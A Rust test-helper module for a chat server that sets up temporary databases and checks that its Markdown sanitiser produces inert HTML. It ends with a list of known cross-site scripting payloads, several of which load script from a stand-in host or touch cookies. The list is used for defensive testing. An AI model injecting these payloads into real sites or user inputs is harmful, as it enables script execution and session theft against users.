//! Fresh databases for tests, on either backend.
//!
//! PostgreSQL is reached at `PARLEY_TEST_POSTGRES` (default
//! `postgres://postgres@127.0.0.1:5432/postgres`); each test gets a new
//! database there and drops it when done. A PostgreSQL that cannot be reached
//! fails the test: it is never skipped.

use crate::store::{Backend, Store};
use sqlx::{Connection, Executor, PgConnection};

pub fn postgres_admin_url() -> String {
    std::env::var("PARLEY_TEST_POSTGRES")
        .unwrap_or_else(|_| "postgres://postgres@127.0.0.1:5432/postgres".to_string())
}

/// A database that exists for one test.
pub struct TestDb {
    pub url: String,
    pg_name: Option<String>,
    /// The administrator's database of its PostgreSQL server.
    admin: Option<String>,
    _dir: Option<TempDir>,
    files: TempDir,
}

/// A directory removed on drop.
pub struct TempDir(pub std::path::PathBuf);

impl TempDir {
    pub fn new(prefix: &str) -> Self {
        let dir = std::env::temp_dir().join(format!("{prefix}-{}-{}", std::process::id(), crate::Id::new()));
        std::fs::create_dir_all(&dir).expect("create temp dir");
        TempDir(dir)
    }
}

impl Drop for TempDir {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir_all(&self.0);
    }
}

impl TestDb {
    pub async fn new(backend: Backend) -> TestDb {
        match backend {
            Backend::Sqlite => {
                let dir = TempDir::new("parley-test");
                let url = format!("sqlite://{}?mode=rwc", dir.0.join("parley.db").display());
                TestDb {
                    url,
                    pg_name: None,
                    admin: None,
                    _dir: Some(dir),
                    files: TempDir::new("parley-files"),
                }
            }
            Backend::Postgres => TestDb::postgres_on(&postgres_admin_url()).await,
        }
    }

    /// A new database on the PostgreSQL server that `admin` reaches (its
    /// administrator's database), dropped with [`TestDb::drop_database`].
    pub async fn postgres_on(admin: &str) -> TestDb {
        let mut conn = PgConnection::connect(admin).await.unwrap_or_else(|e| {
            panic!("PostgreSQL is required for these tests and is not reachable at {admin}: {e}")
        });
        let name = format!("parley_test_{}", crate::Id::new());
        conn.execute(format!("CREATE DATABASE {name}").as_str()).await.expect("create test database");
        let base = admin.rsplit_once('/').map(|(b, _)| b).unwrap_or(admin);
        TestDb {
            url: format!("{base}/{name}"),
            pg_name: Some(name),
            admin: Some(admin.to_string()),
            _dir: None,
            files: TempDir::new("parley-files"),
        }
    }

    /// The same database for another server (another node of one
    /// deployment); dropping it leaves the database to its owner.
    pub fn shared(&self) -> TestDb {
        TestDb {
            url: self.url.clone(),
            pg_name: None,
            admin: None,
            _dir: None,
            files: TempDir::new("parley-files"),
        }
    }

    pub async fn store(&self) -> Store {
        self.store_with(crate::crypto::Keyring::for_tests(&[1])).await
    }

    /// A store on this database sealing and opening with `keys`.
    pub async fn store_with(&self, keys: crate::crypto::Keyring) -> Store {
        Store::open(&self.url, keys).await.expect("open store")
    }

    /// Attachment storage for this test, with the default policy.
    pub fn files(&self) -> crate::files::Files {
        crate::files::Files::new(&self.files.0, crate::files::FilePolicy::default())
    }

    /// A hub over this database.
    /// A hub on this database without rate limits (tests of the store
    /// and the hub seed many messages at once; the limits are tested on
    /// their own and through the server).
    pub async fn hub(&self) -> crate::Hub {
        self.hub_on(self.store().await)
    }

    /// [`Self::hub`] sealing and opening with `keys`.
    pub async fn hub_with(&self, keys: crate::crypto::Keyring) -> crate::Hub {
        self.hub_on(self.store_with(keys).await)
    }

    fn hub_on(&self, store: Store) -> crate::Hub {
        let limits = crate::limits::Limits::new(
            crate::limits::LimitSettings::unlimited(),
            std::sync::Arc::new(crate::limits::MemoryLimits::default()),
        );
        let compliance =
            crate::hub::ComplianceOptions { exports_dir: self.files.0.join("exports"), ..Default::default() };
        crate::Hub::new(store, self.files()).with_limits(limits).with_compliance(compliance)
    }

    /// Drops the PostgreSQL database (call after closing every pool on it).
    pub async fn drop_database(self) {
        self.drop_now().await;
    }

    /// Drops a PostgreSQL test database at once, closing every connection
    /// to it (as if the database went away under a running server).
    pub async fn drop_now(&self) {
        if let (Some(name), Some(admin)) = (&self.pg_name, &self.admin) {
            let mut conn = PgConnection::connect(admin).await.expect("reach PostgreSQL");
            let _ = conn.execute(format!("DROP DATABASE IF EXISTS {name} WITH (FORCE)").as_str()).await;
        }
    }
}

/// Runs a test body once on SQLite and once on PostgreSQL.
#[macro_export]
macro_rules! both_backends {
    ($($name:ident => $body:ident;)*) => {
        mod sqlite {
            $(#[tokio::test] async fn $name() {
                let db = $crate::testing::TestDb::new($crate::store::Backend::Sqlite).await;
                super::$body(&db).await;
                db.drop_database().await;
            })*
        }
        mod postgres {
            $(#[tokio::test] async fn $name() {
                let db = $crate::testing::TestDb::new($crate::store::Backend::Postgres).await;
                super::$body(&db).await;
                db.drop_database().await;
            })*
        }
    };
}

/// Known XSS vectors (OWASP's filter-evasion cheat sheet and friends), for
/// tests that type them wherever people can type.
/// Every `<tag attr="value" ...>` of well-formed HTML, as (name, [(attr, value)]).
fn tags(html: &str) -> Vec<(String, Vec<(String, String)>)> {
    let mut out = Vec::new();
    let mut rest = html;
    while let Some(open) = rest.find('<') {
        let close = rest[open..].find('>').expect("tags are closed") + open;
        let inner = rest[open + 1..close].trim_start_matches('/').trim_end_matches('/');
        let name_end = inner.find(char::is_whitespace).unwrap_or(inner.len());
        let name = inner[..name_end].to_ascii_lowercase();
        let mut attrs = Vec::new();
        let mut a = inner[name_end..].trim_start();
        while !a.is_empty() {
            let eq = a.find('=').expect("attributes have values");
            let key = a[..eq].trim().to_ascii_lowercase();
            let v = &a[eq + 1..];
            assert!(v.starts_with('"'), "quoted attribute in {inner}");
            let end = v[1..].find('"').expect("closing quote") + 1;
            attrs.push((key, v[1..end].to_string()));
            a = v[end + 1..].trim_start();
        }
        out.push((name, attrs));
        rest = &rest[close + 1..];
    }
    out
}

/// Renders `input` as a message and checks the result is inert: every tag is
/// one the sanitiser allows, with allowed attributes only, and every link is
/// http, https, mailto or relative.
pub fn assert_rendered_inert(input: &str) {
    let html = crate::markdown::render(input);
    for (name, attrs) in tags(&html) {
        assert!(
            crate::markdown::ALLOWED_TAGS.contains(&name.as_str()),
            "tag <{name}> from {input:?}: {html}"
        );
        for (key, value) in attrs {
            let allowed = matches!(
                (name.as_str(), key.as_str()),
                ("a", "href" | "rel" | "target")
                    | ("span", "class" | "data-mention")
                    | ("code", "class")
                    | ("ol", "start")
            );
            assert!(allowed, "attribute {key} on <{name}> from {input:?}: {html}");
            if key == "href" {
                let v = value.to_ascii_lowercase();
                let scheme_ok =
                    v.starts_with("http://") || v.starts_with("https://") || v.starts_with("mailto:");
                assert!(scheme_ok || !v.contains(':'), "href {value} from {input:?}: {html}");
            }
        }
    }
}

pub const XSS_VECTORS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://xss.example/xss.js></SCRIPT>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    "<a onmouseover=\"alert(document.cookie)\">xxs link</a>",
    "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\">",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "<IMG onmouseover=\"alert('xxs')\">",
    "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
    "<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041\">",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    "<SCRIPT/XSS SRC=\"http://xss.example/xss.js\"></SCRIPT>",
    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
    "<<SCRIPT>alert(\"XSS\");//<</SCRIPT>",
    "<SCRIPT SRC=http://xss.example/xss.js?< B >",
    "<IMG SRC=\"`<javascript:alert>`('XSS')\"",
    "<iframe src=http://xss.example/scriptlet.html <",
    "</TITLE><SCRIPT>alert(\"XSS\");</SCRIPT>",
    "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<IMG DYNSRC=\"javascript:alert('XSS')\">",
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    "<svg/onload=alert('XSS')>",
    "<svg><script>alert(1)</script></svg>",
    "<BR SIZE=\"&{alert('XSS')}\">",
    "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K\">",
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    "<DIV STYLE=\"width: expression(alert('XSS'));\">",
    "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"http://xss.example/scriptlet.html\"></OBJECT>",
    "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==\" type=\"image/svg+xml\" AllowScriptAccess=\"always\"></EMBED>",
    "<form action=javascript:alert(1)><input type=submit></form>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=\"alert(1)\">",
    "<marquee onstart=alert(1)>",
    "<a href=\"javascript:alert(1)\">click</a>",
    "[click](javascript:alert(1))",
    "[click](JAVASCRIPT:alert(1))",
    "[click](  javascript:alert(1))",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![img](javascript:alert(1))",
    "![x](x\" onerror=\"alert(1))",
    "[x](https://example.com\" onclick=\"alert(1))",
    "<javascript:alert(1)>",
    "```\"><script>alert(1)</script>\n```",
    "```js\" onmouseover=\"alert(1)\nx\n```",
    "**<img src=x onerror=alert(1)>**",
    "> <iframe srcdoc=\"<script>alert(1)</script>\">",
    "@ana<script>alert(1)</script>",
    ":tada:<img src=x onerror=alert(1)>",
    "<a href=\"&#106;avascript:alert(1)\">entity</a>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<span class=\"mention\" onclick=\"alert(1)\">fake</span>",
];
